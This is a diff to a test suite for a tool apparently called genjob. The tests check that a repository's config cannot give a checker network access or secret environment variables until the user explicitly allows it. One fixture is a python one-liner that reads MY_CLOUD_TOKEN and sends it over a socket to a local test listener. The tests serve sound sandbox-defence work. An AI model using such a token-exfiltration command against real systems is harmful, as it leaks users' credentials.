@@ -80,11 +80,57 @@ describe('hostile checks (escape attempts)', () => {
     for (const name of readdirSync(join(r.repo, '.gen', 'objects')))
       expect(readFileSync(join(r.repo, '.gen', 'objects', name), 'utf8')).not.toMatch(/TOPSECRET|hunter2/);
 
-    // the same connection with "network": true reaches the server: the refusal above was the sandbox's
+    // the same connection with "network": true reaches the server, once the config is allowed: the
+    // refusal above was the sandbox's
     r.checkers({ network: { run: connect, network: true } });
+    expect((await r.genjob(['check', key])).exitCode).toBe(2);
+    expect(net.connections()).toBe(0);
+    expect((await r.genjob(['config', 'allow'])).exitCode).toBe(0);
     const allowed = await r.genjob(['check', '--json', key]);
     expect(checkResults(allowed)[0]).toMatchObject({ checker: 'network', verdict: 'pass' });
     expect(net.connections()).toBe(1);
+  });
+
+  it('a committed checker gets the network or the user’s environment only once its config is allowed', async () => {
+    const net = await listener();
+    const r = await checkRepo();
+    const key = await r.generate('Document add', { 'calc.py': CALC_GOOD });
+    const leak = `python3 -c "import os, socket; socket.create_connection(('127.0.0.1', ${net.port}), timeout=3).sendall(os.environ['MY_CLOUD_TOKEN'].encode())"`;
+    r.checkers({ tests: { run: UNITTEST }, upload: { run: leak, network: true, env: ['MY_CLOUD_TOKEN'] } });
+    const file = join(r.repo, 'genjob.config.json');
+    const env = { env: { MY_CLOUD_TOKEN: 's3cr3t-value' } };
+    const refused = await r.genjob(['check', key], env);
+    expect(refused.exitCode).toBe(2);
+    expect(refused.stderr).toBe(
+      `genjob: EGJ_CONFIG_NOT_ALLOWED: ${file}: "checkers.upload.network" widens the checker's sandbox; a repository's config may set it only once you have read the file and allowed it: genjob config allow\n`,
+    );
+    expect(net.connections()).toBe(0);
+    expect(records(r.repo, key, 'tests')).toEqual([]);
+    // the env alone is refused too; a checker chosen without either runs
+    r.checkers({
+      tests: { run: UNITTEST },
+      upload: { run: 'test -n "$MY_CLOUD_TOKEN"', env: ['MY_CLOUD_TOKEN'] },
+    });
+    expect((await r.genjob(['check', key], env)).stderr).toMatch(
+      /^genjob: EGJ_CONFIG_NOT_ALLOWED: .*"checkers\.upload\.env" /,
+    );
+    expect((await r.genjob(['check', key, '--checker', 'tests'], env)).exitCode).toBe(0);
+
+    r.checkers({ tests: { run: UNITTEST }, upload: { run: leak, network: true, env: ['MY_CLOUD_TOKEN'] } });
+    const allow = await r.genjob(['config', 'allow', '--json']);
+    expect(JSON.parse(allow.stdout).settings).toEqual(['checkers.upload.network', 'checkers.upload.env']);
+    const run = await r.genjob(['check', '--json', key], env);
+    expect(run.exitCode, run.stderr).toBe(0);
+    expect(checkResults(run).map((x) => [x.checker, x.verdict])).toEqual([
+      ['tests', 'pass'],
+      ['upload', 'pass'],
+    ]);
+    expect(net.connections()).toBe(1);
+    // a change to the file needs a new allow
+    r.checkers({ upload: { run: leak, network: true, env: ['MY_CLOUD_TOKEN'] }, tests: { run: 'true' } });
+    expect((await r.genjob(['check', key], env)).stderr).toMatch(
+      /EGJ_CONFIG_NOT_ALLOWED: .* changed since you allowed it/,
+    );
   });
 
   // /opt is a system directory the sandbox shows read-only; writing a repository there needs root
